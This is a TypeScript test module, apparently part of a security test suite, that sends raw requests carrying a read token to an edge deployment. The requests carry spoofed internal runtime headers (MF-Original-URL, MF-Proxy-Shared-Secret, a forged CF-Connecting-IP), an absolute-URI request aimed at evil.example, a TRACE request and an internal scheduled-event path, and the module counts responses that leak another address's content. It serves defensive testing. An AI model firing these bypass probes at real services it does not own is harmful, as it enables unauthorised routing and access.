import type { Attack } from "../attack.ts";
import { atOnce } from "../requests.ts";
import { sendRaw } from "../raw-requests.ts";

const HEADERS = [
  "MF-Original-URL: http://x/health",
  "MF-CF-Blob: nonsense",
  "MF-Route-Override: nothing",
  "MF-Proxy-Shared-Secret: x",
  "MF-Op: CALL",
  "MF-Custom-Fetch-Service: x",
  "CF-Connecting-IP: 9.9.9.9",
  "Larder-Front: 00",
];
const PATH = "/v2/pages/country/france/";
/** What the address that some of them name answers. */
const HEALTH = '{"status":"ok"}';
const CONNECTIONS = 8;

export const attack: Attack = {
  row: 9,
  title: "headers and forms of requests that the local runtime would obey",
  holds: "read token",
  run: async ({ edgeUrl, tokens }, signal) => {
    const token = `Authorization: Token ${tokens.read}`;
    const { host } = new URL(edgeUrl);
    const heads = [
      ...HEADERS.map((header) => [`GET ${PATH}`, `Host: ${host}`, token, header]),
      [`GET http://evil.example/health`, `Host: ${host}`, token],
      [`TRACE ${PATH}`, `Host: ${host}`, token],
      ["GET /cdn-cgi/mf/scheduled", `Host: ${host}`],
    ];
    let others = 0;
    const saw = await atOnce(CONNECTIONS, signal, async (number) => {
      const answer = await sendRaw(edgeUrl, heads[number % heads.length] ?? [], signal);
      if (answer.status === 200 && answer.text.includes(HEALTH)) others++;
      return answer;
    });
    return { what: { ...saw.what, "answers of another address": others } };
  },
};
